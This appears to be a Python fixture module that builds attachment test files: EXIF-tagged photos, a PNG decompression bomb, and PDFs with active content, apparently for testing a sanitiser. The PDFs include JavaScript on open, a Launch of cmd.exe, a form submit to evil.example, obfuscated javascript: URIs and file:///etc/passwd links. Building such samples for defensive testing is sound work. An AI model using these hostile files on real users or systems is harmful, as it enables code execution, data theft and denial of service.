"""Files to attach, honest ones and others, made from nothing."""

import struct
import zlib
from io import BytesIO

from PIL import ExifTags, Image

SECRET = "canary-4711"


def image(kind="PNG", size=(40, 30), mode="RGB", colour="red", **options):
    made = BytesIO()
    Image.new(mode, size, colour).save(made, kind, **options)
    return made.getvalue()


def told_on(turned=1):
    """A photograph that says where and by whom it was taken, and how it was held."""
    exif = Image.Exif()
    exif[ExifTags.Base.Artist] = SECRET
    exif[ExifTags.Base.Orientation] = turned
    exif.get_ifd(ExifTags.IFD.GPSInfo)[ExifTags.GPS.GPSDateStamp] = SECRET
    return image("JPEG", exif=exif, comment=SECRET.encode())


def moving(kind):
    first, *others = [Image.new("RGB", (20, 10), colour) for colour in ("red", "blue", "green")]
    made = BytesIO()
    first.save(made, kind, save_all=True, append_images=others)
    return made.getvalue()


def bomb(width, height):
    """A PNG of a few bytes that says it has so many pixels."""
    head = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + _chunk(b"IHDR", head) + _chunk(b"IDAT", zlib.compress(b"\0" * 1000)) + _chunk(b"IEND", b"")  # fmt: skip


def _chunk(kind, content):
    return struct.pack(">I", len(content)) + kind + content + struct.pack(">I", zlib.crc32(kind + content))


def pdf(text="Hello", catalog="", page="", more=(), info=""):
    """A PDF of one page. `catalog` and `page` go into those dictionaries; `more` are objects from number 6 on."""
    stream = f"BT /F1 12 Tf 20 100 Td ({text}) Tj ET"
    objects = [
        f"<< /Type /Catalog /Pages 2 0 R {catalog} >>",
        "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        f"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 300 200] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> {page} >>",
        f"<< /Length {len(stream)} >>\nstream\n{stream}\nendstream",
        "<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
        *more,
    ]
    made, places = b"%PDF-1.7\n", []
    for number, content in enumerate(objects, start=1):
        places.append(len(made))
        made += f"{number} 0 obj\n{content}\nendobj\n".encode("latin-1")
    table = "".join(f"{place:010} 00000 n \n" for place in places)
    end = f"xref\n0 {len(objects) + 1}\n0000000000 65535 f \n{table}trailer\n<< /Size {len(objects) + 1} /Root 1 0 R {info} >>\nstartxref\n{len(made)}\n%%EOF\n"
    return made + end.encode("latin-1")


ACTIVE = {
    "opens with a script": pdf(catalog="/OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >>"),
    "a script under a name": pdf(catalog="/Names << /JavaScript << /Names [(a) 6 0 R] >> >>", more=["<< /S /JavaScript /JS (x) >>"]),
    "a script spelt in digits": pdf(catalog="/OpenAction << /S /J#61vaScript /J#53 (x) >>"),
    "starts a program": pdf(page="/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /Launch /F (cmd.exe) >> >>]"),
    "acts when a page opens": pdf(page="/AA << /O << /S /GoTo /D [3 0 R /Fit] >> >>"),
    "a later action": pdf(catalog="/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next [<< /S /Launch /F (x) >>] >>"),
    "carries a file": pdf(catalog="/Names << /EmbeddedFiles << /Names [(a) 6 0 R] >> >>", more=["<< /Type /Filespec /F (a) /EF << /F 7 0 R >> >>", "<< /Type /EmbeddedFile /Length 1 >>\nstream\nx\nendstream"]),
    "a file as a note": pdf(page="/Annots [<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 9 9] /FS 6 0 R >>]", more=["<< /Type /Filespec /F (a) >>"]),
    "leads to another file": pdf(catalog="/OpenAction << /S /GoToR /F (other.pdf) /D [0 /Fit] >>"),
    "sends a form": pdf(page="/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /SubmitForm /F (https://evil.example) >> >>]"),
    "a link that is a script": pdf(page="/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /URI /URI (javascript:alert\\(1\\)) >> >>]"),
    "the same in bytes": pdf(page="/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /URI /URI <6a6176617363726970743a616c65727428312980ff> >> >>]"),
    "a link to a file": pdf(page="/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /URI /URI (file:///etc/passwd) >> >>]"),
    "a link that is elsewhere": pdf(page="/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /URI /URI 6 0 R >> >>]", more=["(javascript:alert\\(1\\))"]),
    "a link to a file that is elsewhere": pdf(page="/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /URI /URI 6 0 R >> >>]", more=["(file:///etc/passwd)"]),
    "a kind that is elsewhere": pdf(page="/Annots [<< /Type /Annot /Subtype 6 0 R /Rect [0 0 9 9] /A << /S 7 0 R /F (x) >> >>]", more=["/Link", "/Launch"]),
    "a form of its own kind": pdf(catalog="/AcroForm << /Fields [] /XFA (x) >>"),
    "plays a film": pdf(page="/Annots [<< /Type /Annot /Subtype /RichMedia /Rect [0 0 9 9] >>]"),
    "a collection": pdf(catalog="/Collection << /View /T >>"),
}  # fmt: skip
